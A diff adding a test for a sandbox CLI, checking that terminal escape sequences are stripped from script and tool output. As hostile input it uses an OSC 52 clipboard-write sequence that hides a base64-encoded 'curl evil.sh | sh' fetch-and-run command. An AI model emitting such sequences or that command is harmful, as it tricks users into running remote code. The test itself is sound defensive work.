@@ -104,3 +104,25 @@ def test_failing_run_exits_non_zero(cli, tmp_path: Path) -> None:
     assert missing.returncode == 2 and "cannot read" in missing.stderr
     timeout = cli("run", "-", "--timeout", "1", stdin="while True:\n    pass\n")
     assert timeout.returncode == 1 and "timed out" in timeout.stderr
+
+
+def test_run_strips_terminal_control_sequences_from_sandbox_and_tool_output(cli, tmp_path: Path) -> None:
+    clipboard = "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"  # OSC 52: write the user's clipboard
+    script = tmp_path / "hostile.py"
+    script.write_text(
+        "from generated.servers.demo import write_file, read_file, always_fails\n"
+        f"print('printed{clipboard}\\x1b]0;title\\x07\\x1b[2J\\x1b[Hend')\n"
+        f"await write_file(path='evil.txt', content='from a tool{clipboard}\\x9b2J!')\n"
+        "print(await read_file(path='evil.txt'))\n"
+        "import sys; print('\\x1b[1A\\x1b[2Kon stderr', file=sys.stderr)\n"
+        f"await always_fails(reason='boom{clipboard}')\n"
+    )
+    out = cli("run", str(script))
+    assert out.returncode == 1
+    for stream in (out.stdout, out.stderr):
+        assert "\x1b" not in stream and "\x07" not in stream and "\x9b" not in stream
+    assert out.stdout.startswith("printedend\nfrom a tool!\n")
+    assert "on stderr" in out.stderr and "boom" in out.stderr
+    as_json = cli("run", str(script), "--json")
+    data = json.loads(as_json.stdout)  # JSON keeps the data, escaped
+    assert "\x1b]52;c;" in data["stdout"] and "\x1b" not in as_json.stdout and "\x9b" not in as_json.stdout
